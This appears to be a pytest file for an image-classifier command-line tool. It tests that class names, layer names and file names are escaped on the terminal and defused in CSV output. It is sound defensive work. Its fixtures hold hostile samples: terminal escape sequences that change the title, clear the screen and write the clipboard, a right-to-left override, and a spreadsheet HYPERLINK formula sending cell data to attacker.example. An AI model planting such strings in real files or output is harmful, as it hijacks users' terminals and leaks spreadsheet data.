"""Text from files in our output (issue 19, class 7): escaped on the terminal, spreadsheet-safe in CSV.

A model's class names and layer names and the names of the user's files reach the terminal
and CSV files. Here they hold what an attacker would put there: a terminal title change, a
screen clear, a clipboard write (OSC 52), a right-to-left override, spreadsheet formulas.
"""

import csv
import json

import keras
import numpy as np
import pytest

from core import modelfile, safetext
from tests.training_helpers import write_colour_images

TITLE = "\x1b]0;pwned\x07"  # Sets the terminal's title.
CLEAR = "\x1b[2J"  # Clears the screen.
CLIPBOARD = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # Writes the clipboard.
C1_CSI = "\x9b31m"  # The 8-bit form of ESC [.
RTL = "\u202e"  # Right-to-left override: "gpj.exe" shows as "exe.jpg".
FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"help")'
NAMES = [FORMULA, f"{TITLE}{CLEAR}{CLIPBOARD}{C1_CSI}{RTL}red"]
UNSAFE = ("\x1b", "\x07", "\x9b", RTL)


@pytest.fixture(scope="module")
def model(tmp_path_factory):
    """A model that says NAMES[1] for red images."""
    path = tmp_path_factory.mktemp("escapes") / "model.keras"
    inputs = keras.Input((16, 16, 3))
    x = keras.layers.Rescaling(1 / 255)(inputs)
    x = keras.layers.Conv2D(2, 1, name="conv", kernel_initializer="ones")(x)
    x = keras.layers.GlobalAveragePooling2D()(x)
    outputs = keras.layers.Dense(2, activation="softmax", name="predictions")(x)
    built = keras.Model(inputs, outputs)
    built.get_layer("predictions").set_weights([np.array([[-1.0, 1.0], [-1.0, 1.0]], np.float32), np.zeros(2)])
    modelfile.save_model(built, path, modelfile.ModelInfo(NAMES, (16, 16, 3)))
    return path


def _main(capsys, *arguments):
    import main

    code = main.main([*map(str, arguments)])
    captured = capsys.readouterr()
    return code, captured.out, captured.err


def _assert_escaped(text):
    assert not any(character in text for character in UNSAFE), repr(text)


def test_terminal_text_escapes_controls_and_keeps_lines():
    assert safetext.terminal_text(f"a{TITLE}b\tc\nd{RTL}") == "a\\u001b]0;pwned\\u0007b\tc\nd\\u202e"
    assert safetext.one_line("a\nb\tc\x9b") == "a\\u000ab\\u0009c\\u009b"
    assert safetext.one_line("x" * 300, 10) == "x" * 9 + "…"
    assert json.loads(json.dumps("\x9b", ensure_ascii=False).replace("\x9b", "\\u009b")) == "\x9b"


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("red", "red"), ("1-2", "1-2"), ("", ""), (-0.5, -0.5), (None, None),
])
def test_csv_cells_from_files_never_start_a_formula(value, expected):
    assert safetext.csv_cell(value) == expected


def test_classify_escapes_names_on_the_terminal_and_neutralises_formulas_in_csv(model, tmp_path, capsys,
                                                                                monkeypatch):
    monkeypatch.chdir(tmp_path)
    write_colour_images(tmp_path / "photos", colours={"red": (220, 20, 20)}, per_class=1, size=16)
    image = next((tmp_path / "photos" / "red").iterdir())
    evil_image = tmp_path / f"=cmd{CLEAR}.png"
    evil_image.write_bytes(image.read_bytes())
    broken = tmp_path / f"+broken{TITLE}.png"
    broken.write_bytes(b"not an image")
    files = [evil_image.name, broken.name, image]

    code, out, err = _main(capsys, "classify", *files, "--model", model, "--top", "2", "--csv", "out.csv")

    assert code == 1  # The broken file failed.
    _assert_escaped(out + err)
    assert f"{safetext.terminal_text(NAMES[1])} " in out and "=cmd\\u001b[2J.png: " in out
    assert err.startswith("error: +broken\\u001b]0;pwned\\u0007.png: ")
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert rows[0]["path"] == f"'={evil_image.name[1:]}" and rows[0]["label_1"] == NAMES[1]
    assert rows[0]["label_2"] == f"'{FORMULA}"
    assert rows[1]["path"] == f"'{broken.name}" and rows[1]["error"].startswith(f"'{broken.name}: ")
    assert float(rows[0]["probability_2"]) < 0.5  # Numbers we write are left as numbers.

    code, out, _ = _main(capsys, "classify", image, "--model", model, "--json")
    _assert_escaped(out)
    assert [entry["label"] for entry in json.loads(out)[0]["top"]] == [NAMES[1], FORMULA]  # JSON reads back whole.


def test_evaluate_and_inspect_escape_class_names(model, tmp_path, capsys):
    write_colour_images(tmp_path / "data", colours={NAMES[1]: (220, 20, 20), "other": (20, 20, 220)},
                        per_class=2, size=16)

    for arguments in (["evaluate", tmp_path / "data", "--model", model],
                      ["inspect", next((tmp_path / "data" / "other").iterdir()), "--model", model, "--out",
                       tmp_path / "look"]):
        code, out, err = _main(capsys, *arguments)
        assert code == 0, err
        _assert_escaped(out + err)
        assert "\\u001b]0;pwned\\u0007" in out, (arguments[0], out)


def test_a_layer_name_tensorflow_cannot_run_is_refused_in_one_escaped_line(tmp_path, capsys):
    inputs = keras.Input((16, 16, 3))
    x = keras.layers.Conv2D(2, 1, name=f"conv{TITLE}")(inputs)
    outputs = keras.layers.Dense(2, activation="softmax")(keras.layers.GlobalAveragePooling2D()(x))
    keras.Model(inputs, outputs).save(tmp_path / "named.keras")  # Keras saves it, and its predict() then fails.

    code, out, err = _main(capsys, "arch", tmp_path / "named.keras")

    assert code == 2 and out == ""
    assert err == (f"error: {tmp_path / 'named.keras'}: the layer or model named 'conv\\u001b]0;pwned\\u0007' cannot "
                   "run: TensorFlow only runs names made of the letters A-Z, digits and _ . - / >; rename it in the "
                   "program that made the model\n")


def test_training_messages_escape_folder_names(tmp_path, capsys):
    from tests.training_helpers import TINY_ARCH

    write_colour_images(tmp_path / "data", colours={f"red{TITLE}": (220, 20, 20), f"blue{RTL}": (20, 20, 220)},
                        per_class=3, size=16)

    code, out, err = _main(capsys, "train", tmp_path / "data", "--arch", TINY_ARCH, "--size", "16", "--epochs", "1",
                           "--no-augment", "--out", tmp_path / "run")

    assert code == 0, err
    _assert_escaped(out + err)
    assert "red\\u001b]0;pwned\\u0007" in out and "blue\\u202e" in out
    names = modelfile.load_model(tmp_path / "run" / "model.keras").info.class_names
    assert sorted(names) == sorted([f"red{TITLE}", f"blue{RTL}"])  # The names themselves are kept.


def test_a_newline_in_a_file_name_or_a_label_never_splits_a_result_or_warning_line(tmp_path, capsys):
    path = tmp_path / "lines.keras"
    inputs = keras.Input((16, 16, 3))
    x = keras.layers.GlobalAveragePooling2D()(keras.layers.Rescaling(1 / 255)(inputs))
    outputs = keras.layers.Dense(2, activation="softmax", name="predictions")(x)
    modelfile.save_model(keras.Model(inputs, outputs), path, modelfile.ModelInfo(["two\nlines", "b"], (16, 16, 3)))
    write_colour_images(tmp_path / "data", colours={"b": (20, 20, 220), "multi\nline label": (220, 20, 20)},
                        per_class=2, size=16)
    photo = next((tmp_path / "data" / "b").iterdir())
    named = tmp_path / "photos" / "name,with,commas\nnewline.png"
    named.parent.mkdir()
    named.write_bytes(photo.read_bytes())
    (tmp_path / "photos" / "broken\tname.png").write_bytes(b"not an image")

    code, out, err = _main(capsys, "classify", tmp_path / "photos", "--model", path, "--top", "2")
    assert code == 1  # The broken file failed; the other was read.
    assert out.splitlines() == [f"{tmp_path}/photos/name,with,commas\\u000anewline.png: "
                                f"{out.split(': ', 1)[1].splitlines()[0]}"]
    assert "two\\u000alines" in out
    assert err.splitlines() == [f"error: {tmp_path}/photos/broken\\u0009name.png: not an image file Pillow can read "
                                f"{err.split('Pillow can read ', 1)[1].splitlines()[0]}"]

    (tmp_path / "data" / "b" / "damaged\nphoto.png").write_bytes(b"not an image")
    code, out, err = _main(capsys, "evaluate", tmp_path / "data", "--model", path)
    assert code == 0 and any("multi\\u000aline label" in line for line in err.splitlines())
    assert [line for line in err.splitlines() if line.startswith("skipped: ")] == [
        f"skipped: {tmp_path}/data/b/damaged\\u000aphoto.png: {err.split('photo.png: ', 1)[1].splitlines()[0]}"]
    assert all(line.startswith(("warning: ", "note: ", "skipped: ")) for line in err.splitlines()), err
